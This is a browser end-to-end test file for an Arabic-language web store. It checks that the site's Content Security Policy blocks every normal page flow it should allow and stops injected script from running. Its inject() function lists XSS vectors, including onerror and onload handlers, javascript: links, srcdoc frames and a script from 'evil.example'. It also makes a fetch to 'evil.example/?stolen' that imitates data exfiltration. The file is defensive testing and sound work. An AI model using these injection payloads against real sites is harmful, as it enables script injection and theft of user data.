import { describe, expect } from 'vitest';
import type { BrowserContext } from 'playwright-core';
import { contentTexts } from '../../web/src/i18n/ar/admin-content.ts';
import { orderPageTexts } from '../../web/src/i18n/ar/admin-order.ts';
import { orderForm } from '../support/backend.ts';
import { putOrders } from '../support/orders.ts';
import { png } from '../support/png.ts';
import { AdminPage } from './admin-page.ts';
import { AuthPage } from './auth-page.ts';
import { ConfirmationPage } from './confirmation-page.ts';
import { ImagesPage } from './images-page.ts';
import { OrderPage } from './order-page.ts';
import { OrdersPage } from './orders-page.ts';
import { PaymentPage } from './payment-page.ts';
import { DESKTOP, httpError, expectVisible, NO_PAGE, test, type Shopper } from './shopper.ts';

/** Records violations of the policy in every page and frame of the store. */
async function watchPolicy(context: BrowserContext): Promise<string[]> {
  const violations: string[] = [];
  await context.exposeBinding('onViolation', (_, violation: string) => {
    violations.push(violation);
  });
  await context.addInitScript(() => {
    const { onViolation } = globalThis as unknown as { onViolation: (text: string) => void };
    document.addEventListener('securitypolicyviolation', (event) =>
      onViolation(`${event.effectiveDirective} ${event.blockedURI} at ${location.pathname}`),
    );
  });
  return violations;
}

describe('the policy forbids nothing that the store does', () => {
  test('for a shopper, from the landing page to the paid order', async ({ shopper }) => {
    shopper.mayPrint(...NO_PAGE);
    const { page, context } = shopper;
    const violations = await watchPolicy(context);
    for (const path of [
      '/product-details',
      '/about',
      '/policies/terms',
      '/no/such-page',
      '/auth',
    ]) {
      await page.goto(path);
      await expectVisible(page.getByRole('heading', { level: 1 }));
    }
    await page.goto('/');
    // an interaction hydrates the page, and the navigation is the app's own
    await page.getByRole('radio', { name: 'SAR' }).first().check();
    const orderPage = await OrderPage.open(page);
    await orderPage.fillIn(orderForm());
    await orderPage.submit();
    await (await PaymentPage.reached(page)).pay();
    await new ConfirmationPage(page).expectPaid();
    expect(violations).toEqual([]);
  });

  test('for the merchant, in every section', { tags: 'nightly' }, async ({ newShopper }) => {
    const { page, context } = await newShopper(DESKTOP);
    const violations = await watchPolicy(context);
    const [id] = await putOrders([{ payment_test: true }]);
    const list = await OrdersPage.open(page);
    await list.listed();
    await list.download(list.exportButton, 'orders');
    await list.view(id!).click();
    await page.evaluate(() => {
      globalThis.print = () => undefined;
    });
    await page.getByRole('button', { name: orderPageTexts.printInvoice }).click();
    const admin = new AdminPage(page);
    for (const section of ['dashboard', 'products', 'images', 'content'] as const)
      await admin.goTo(section);
    const preview = page.locator('iframe').contentFrame();
    await preview.getByRole('heading', { level: 1 }).waitFor();
    expect(await page.locator('iframe').getAttribute('title')).toContain(contentTexts.preview);
    await admin.goTo('images');
    const imagesPage = new ImagesPage(page);
    const shown = page.waitForRequest('**/media/**');
    await imagesPage.upload(await png('a.png'));
    await shown;
    await admin.signOutButton.click();
    await AuthPage.reached(page);
    expect(violations).toEqual([]);
  });
});

/** Every way in which markup could run script; each that runs leaves its name. */
function inject(): void {
  const ran = (name: string): string => `document.documentElement.dataset.ran = '${name}'`;
  const add = (markup: string): void => document.body.insertAdjacentHTML('beforeend', markup);
  const script = (fill: (it: HTMLScriptElement) => void): void => {
    const element = document.createElement('script');
    fill(element);
    document.body.append(element);
  };
  script((it) => {
    it.textContent = ran('inline');
  });
  script((it) => {
    it.src = `data:text/javascript,${encodeURIComponent(ran('data'))}`;
  });
  script((it) => {
    it.src = URL.createObjectURL(new Blob([ran('blob')], { type: 'text/javascript' }));
  });
  script((it) => {
    it.src = 'https://evil.example/x.js';
  });
  add(`<img src="/no-such.png" onerror="${ran('onerror')}">`);
  add(`<svg onload="${ran('onload')}"></svg>`);
  add(`<iframe srcdoc="<script>parent.${ran('srcdoc')}</script>"></iframe>`);
  add(`<a id="injected" href="javascript:${ran('address')}">x</a>`);
  document.getElementById('injected')!.click();
  setTimeout(ran('eval') as unknown as () => void);
}

async function expectNoScriptRuns(shopper: Shopper, path: string): Promise<void> {
  shopper.mayPrint(/Content Security Policy/, ...NO_PAGE, httpError(404));
  const { page, context } = shopper;
  const violations = await watchPolicy(context);
  let asked = 0;
  await context.route('https://evil.example/**', (route) => {
    asked += 1;
    return route.fulfill({ body: "document.documentElement.dataset.ran = 'theirs'" });
  });
  await page.goto(path);
  await expectVisible(page.getByRole('heading', { level: 1 }));
  await page.evaluate(inject);
  await page.evaluate(() => fetch('https://evil.example/?stolen').catch(() => undefined));
  await expect.poll(() => violations.length).toBe(10);
  expect(violations.map((line) => line.replace(/ at .*/, ''))).toEqual(
    expect.arrayContaining([
      'script-src-elem inline',
      'script-src-elem data',
      'script-src-elem blob',
      'script-src-elem https://evil.example/x.js',
      'script-src-attr inline',
      'script-src eval',
      'connect-src https://evil.example/?stolen',
    ]),
  );
  expect(await page.locator('html').getAttribute('data-ran')).toBeNull();
  expect(asked).toBe(0);
}

test('script that found its way into /order does not run, and fetches nothing', ({ shopper }) =>
  expectNoScriptRuns(shopper, '/order'));

test.for(['/', '/auth', '/no/such-page'])(
  'nor does it on %s',
  { tags: 'nightly' },
  (path, { shopper }) => expectNoScriptRuns(shopper, path),
);
